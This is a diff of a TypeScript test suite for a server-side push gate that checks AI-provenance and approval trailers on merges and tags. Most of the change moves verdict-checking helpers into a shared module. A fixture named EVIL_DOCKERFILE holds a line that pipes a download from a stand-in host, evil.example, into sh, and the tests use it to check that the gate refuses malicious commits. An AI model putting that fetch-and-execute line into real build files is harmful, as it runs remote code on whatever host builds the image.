@@ -1,6 +1,7 @@
 import * as assert from 'assert';
 import { recordDecision } from '../helpers/approvals';
 import { withoutGate } from '../helpers/gateAgreement';
+import { passes, refused } from '../helpers/refVerdicts';
 import { commitFile, policyJson, setup, type Setup } from '../helpers/gateServer';
 import type { TempRepo } from '../helpers/tempRepo';
 
@@ -24,7 +25,6 @@ describe('server gate: a merge built on an intermediate commit of an approved ra
   const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
   const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
   const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';
-  const ZERO = '0'.repeat(40);
   const EARLIER = new Date(Date.now() - 3_600_000).toISOString();
 
   /**
@@ -66,56 +66,6 @@ describe('server gate: a merge built on an intermediate commit of an approved ra
   function mergeAs(repo: TempRepo, treeOf: string, parents: string[], subject = "Merge branch 'feature'"): string {
     const args = parents.flatMap((p) => ['-p', p]);
     return repo.git('commit-tree', `${treeOf}^{tree}`, ...args, '-m', `${subject}\n\n${NONE}`);
-  }
-
-  /**
-   * The three verdicts on pushing `sha` to `ref` (a branch or a tag) — `verify` as CI asks it, the pre-push hook
-   * with the ref line git gives it, the server's pre-receive — which must agree. True = passes.
-   */
-  function verdicts(s: Setup, sha: string, ref: string): { verdict: boolean; said: string } {
-    const { ada } = s;
-    ada.git('fetch', '-q', 'origin');
-    const remote = ada.git('ls-remote', 'origin', ref).split('\t')[0] || ZERO;
-    const tag = ref.startsWith('refs/tags/') ? ref.slice('refs/tags/'.length) : undefined;
-    if (tag) ada.git('tag', '-f', tag, sha);
-    // As CI asks: the ref's current value as base (none for a new ref), the pushed commit as head.
-    const verify = tag
-      ? ada.cli(['verify', '--remote', 'origin', '--tag', tag])
-      : ada.cli([
-          'verify',
-          '--remote',
-          'origin',
-          '--branch',
-          ref.slice('refs/heads/'.length),
-          ...(remote === ZERO ? [] : ['--base', remote]),
-          '--head',
-          sha,
-        ]);
-    assert.ok(verify.status === 0 || verify.status === 1, `verify exits 0 or 1: ${verify.stdout}${verify.stderr}`);
-    const prePush = ada.cli(['hook', 'pre-push', 'origin', 'unused'], { input: `${ref} ${sha} ${ref} ${remote}\n` });
-    const server = ada.gitResult(['push', '--no-verify', 'origin', `${sha}:${ref}`]);
-    const said = `verify: ${verify.stdout}${verify.stderr}\npre-push: ${prePush.stderr}\nserver: ${server.stderr}`;
-    assert.deepStrictEqual(
-      { verify: verify.status === 0, prePush: prePush.status === 0, server: server.status === 0 },
-      { verify: server.status === 0, prePush: server.status === 0, server: server.status === 0 },
-      `verify, pre-push and the server disagree:\n${said}`,
-    );
-    if (tag) ada.git('tag', '-d', tag);
-    return { verdict: server.status === 0, said };
-  }
-
-  function refused(s: Setup, sha: string, ref: string, why: RegExp): void {
-    const before = s.server.gitResult(['rev-parse', '-q', '--verify', ref]).stdout.trim();
-    const v = verdicts(s, sha, ref);
-    assert.strictEqual(v.verdict, false, `${ref} := ${sha.slice(0, 7)} must be refused:\n${v.said}`);
-    assert.match(v.said, why);
-    assert.strictEqual(s.server.gitResult(['rev-parse', '-q', '--verify', ref]).stdout.trim(), before);
-  }
-
-  function passes(s: Setup, sha: string, ref: string): void {
-    const v = verdicts(s, sha, ref);
-    assert.strictEqual(v.verdict, true, `${ref} := ${sha.slice(0, 7)} must pass:\n${v.said}`);
-    assert.strictEqual(s.server.git('rev-parse', ref), sha);
   }
 
   it('J4, J4c, an octopus: a merge onto the rejected draft is refused on main and as a tag; T itself still lands', () => {
